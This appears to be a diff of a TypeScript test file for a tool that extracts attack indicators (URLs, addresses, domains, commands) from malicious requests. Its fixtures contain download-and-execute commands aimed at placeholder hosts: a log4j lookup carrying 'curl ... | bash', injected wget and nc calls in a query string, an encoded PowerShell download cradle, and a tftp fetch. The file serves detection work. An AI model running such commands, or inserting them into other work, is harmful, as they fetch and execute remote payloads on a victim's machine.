@@ -90,7 +90,7 @@ test('log4j look-ups, folded, with what their path hides', () => {
     'rmi://192.0.2.10:1099/a',
   ]);
   assert.deepEqual(found.command, ['curl -s http://192.0.2.7/lh.sh', 'bash']);
-  assert.deepEqual(found.domain, ['evil.example.com', 'victim.example.net']);
+  assert.deepEqual(found.domain, ['evil.example.com']);
 });
 
 test('every way in, for the same URL', () => {
@@ -297,6 +297,11 @@ test('hosts in every form', () => {
   assert.deepEqual(facts(query, { protocol: 'dns', transport: 'udp' }).domain, ['example.org']);
 });
 
+test('the decoy itself and addresses of no machine are no call-back', () => {
+  const found = facts(get('http://192.0.2.1/x?a=;wget+192.0.2.1/y;nc+127.0.0.1+80;wget+http://0.0.0.0/z;curl+http://192.0.2.2/'));
+  assert.deepEqual([found.url, found.address], [['http://192.0.2.2/'], ['192.0.2.2']]);
+});
+
 test('PowerShell, and hashes by name', () => {
   const script = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.4/a.ps1')";
   const found = facts(get(`/?cmd=powershell+-enc+${encodeURIComponent(base64(script, 'utf16le'))}`));
@@ -333,13 +338,13 @@ test('what rules captured counts', () => {
     tags: [],
     cves: [],
     techniques: [],
-    captures: { url: 'http://192.0.2.1/x', command: 'tftp -g -r y 192.0.2.2', file: 'z', odd: 'w' },
+    captures: { url: 'http://192.0.2.6/x', command: 'tftp -g -r y 192.0.2.2', file: 'z', odd: 'w' },
   } as const;
   assert.deepEqual(group(extractFacts(view(''), [hit])), {
-    url: ['http://192.0.2.1/x', 'tftp://192.0.2.2/y'],
+    url: ['http://192.0.2.6/x', 'tftp://192.0.2.2/y'],
     command: ['tftp -g -r y 192.0.2.2'],
     file: ['z'],
-    address: ['192.0.2.1', '192.0.2.2'],
+    address: ['192.0.2.6', '192.0.2.2'],
   });
 });
 
